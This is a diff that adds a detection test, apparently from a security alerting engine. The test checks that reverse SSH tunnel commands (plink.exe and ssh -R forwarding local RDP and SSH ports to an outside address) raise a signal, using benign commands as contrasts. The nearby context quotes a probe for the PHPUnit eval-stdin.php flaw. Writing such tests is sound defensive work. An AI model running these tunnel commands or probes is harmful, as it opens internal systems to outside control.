@@ -88,6 +88,19 @@ def test_grave_behaviour_has_a_floor_in_plain_and_encoded_form(fields: dict[str,
     assert all(floor.severity.rank >= Severity.HIGH.rank for floor in floors)
 
 
+@pytest.mark.parametrize(
+    ("command", "found"),
+    [
+        ("plink.exe -ssh -l tun -R 33890:127.0.0.1:3389 198.51.100.7", True),
+        ("ssh -fNR 8022:localhost:22 user@198.51.100.7", True),
+        ("ssh -L 3389:host.corp.example:3389 jump.corp.example", False),
+        ("scp -r folder host:/srv", False),
+    ],
+)
+def test_reverse_tunnels_to_remote_administration(command: str, found: bool) -> None:
+    assert ("win-ssh-reverse-tunnel" in signals(alert(command=command))) is found
+
+
 def test_an_attempt_in_a_request_is_no_proof_of_success() -> None:
     request = '203.0.113.9 - - "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 0'
     floor = signals(LogWindow(source="t", body=request))["web-php-unit-eval"].floor
